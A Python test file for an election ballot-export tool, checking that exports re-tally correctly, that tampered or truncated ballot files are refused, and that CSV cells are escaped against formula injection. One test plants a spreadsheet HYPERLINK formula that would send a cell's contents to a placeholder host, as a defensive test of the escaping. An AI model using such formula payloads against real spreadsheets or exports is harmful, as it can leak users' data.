"""The ballots exported from a closed round are what `dangbo election verify` reads: it accepts the
export with the minutes' fingerprint and re-tallies it to the same result; an altered row, a row
removed at the end or a forged fingerprint is refused (exit status 2)."""

import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from tests.elections.test_views import client_for


@pytest.fixture
def exported(closed, hall, tmp_path):
    office = client_for(hall.world.office)
    ballots = tmp_path / "phieu.csv"
    ballots.write_bytes(office.get(f"/bau-cu/{closed.id}/phieu.csv").content)
    cands = tmp_path / "ung-vien.csv"
    cands.write_bytes(office.get(f"/bau-cu/{closed.id}/ung-vien.csv").content)
    return closed, ballots, cands


def verify(*args):
    out = StringIO()
    call_command("election", "verify", *map(str, args), "--json", stdout=out, stderr=StringIO())
    return json.loads(out.getvalue())


def test_verify_accepts_the_export_and_retallies(exported):
    e, ballots, cands = exported
    data = verify("--ballots", ballots, "--candidates", cands, "--seats", e.seats, "--base", e.base,
                  "--fingerprint", e.fingerprint)
    assert data["ok"] and data["rows"] == e.returned and data["fingerprint"] == e.fingerprint
    for key in ("elected", "runoff", "unfilled", "valid", "invalid", "candidates", "threshold"):
        assert data["tally"][key] == e.result[key], key


def test_verify_detects_a_tampered_row(exported):
    e, ballots, _ = exported
    lines = ballots.read_text().splitlines()
    no, kept, flags, h = lines[3].split(",")
    lines[3] = ",".join([no, "1 4", flags, h])  # a teller's reading changed after the fact
    ballots.write_text("\n".join(lines) + "\n")
    with pytest.raises(CommandError, match="dòng 4, cột «hash»") as exc:
        verify("--ballots", ballots)
    assert exc.value.returncode == 2


def test_verify_detects_a_removed_last_row_against_the_fingerprint(exported):
    e, ballots, _ = exported
    lines = ballots.read_text().splitlines()
    ballots.write_text("\n".join(lines[:-1]) + "\n")
    assert verify("--ballots", ballots)["ok"]  # the chain alone cannot see a cut at the end
    with pytest.raises(CommandError, match="dấu vân tay") as exc:
        verify("--ballots", ballots, "--fingerprint", e.fingerprint)
    assert exc.value.returncode == 2


def test_formula_in_a_candidate_name_exports_safely_and_verify_still_passes(hall, tmp_path):
    """CSV injection: a candidate named `=HYPERLINK(…)` is written as text (a leading apostrophe,
    `core.safecells`), the ballot cells (numbers, flags, hashes) are unchanged, and the round trip
    through `dangbo election verify` still holds."""
    from dangbo.elections import services
    from tests.elections.conftest import enter_both, make_round

    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    e = make_round(hall.congress, [evil, "Ứng Viên Hai", "-2+3", "@SUM(1)"], 3)
    e = services.election_count_start(actor=None, election=e, issued=7, returned=4)
    for no, kept in enumerate([[1, 2, 3], [1, 2], [1, 4], []], start=1):
        enter_both(e, no, kept=kept)
    e = services.election_tally(actor=None, election=e)
    office = client_for(hall.world.office)
    cands = office.get(f"/bau-cu/{e.id}/ung-vien.csv").content.decode()
    rows = cands.splitlines()
    assert rows[0] == "no,full_name"
    assert rows[1].startswith("1,\"'=HYPERLINK(") and rows[3] == "3,'-2+3" and rows[4] == "4,'@SUM(1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.split(","))
    export = office.get(f"/bau-cu/{e.id}/phieu.csv").content.decode()
    assert "'" not in export  # ballot cells are numbers, flags and hashes: written as they are
    (tmp_path / "phieu.csv").write_text(export, encoding="utf-8")
    (tmp_path / "ung-vien.csv").write_text(cands, encoding="utf-8")
    data = verify("--ballots", tmp_path / "phieu.csv", "--candidates", tmp_path / "ung-vien.csv",
                  "--seats", e.seats, "--base", e.base, "--fingerprint", e.fingerprint)
    assert data["ok"] and data["rows"] == 4
    for key in ("elected", "runoff", "unfilled", "valid", "invalid", "threshold"):
        assert data["tally"][key] == e.result[key], key
    assert data["tally"]["candidates"][0]["full_name"] == "'" + evil  # read back as the text it was


def test_cli_chain_out_cells_are_safe(tmp_path):
    """`dangbo election tally --chain-out` writes through the same safe writer (its cells are numbers)."""
    import csv

    c = tmp_path / "c.csv"
    c.write_text("no,full_name\n1,=1+1\n2,B\n3,C\n", encoding="utf-8")
    b = tmp_path / "b.csv"
    b.write_text("ballot_no,kept,flags\n1,1 2,\n2,,\n3,3,mark\n", encoding="utf-8")
    out = StringIO()
    call_command("election", "tally", "--candidates", str(c), "--ballots", str(b), "--seats", "2", "--base", "5",
                 "--chain-out", str(tmp_path / "x.csv"), "--json", stdout=out)
    rows = list(csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8")))
    assert [r["kept"] for r in rows] == ["1 2", "", "3"] and rows[2]["flags"] == "mark"
    assert verify("--ballots", tmp_path / "x.csv", "--fingerprint", json.loads(out.getvalue())["fingerprint"])["ok"]
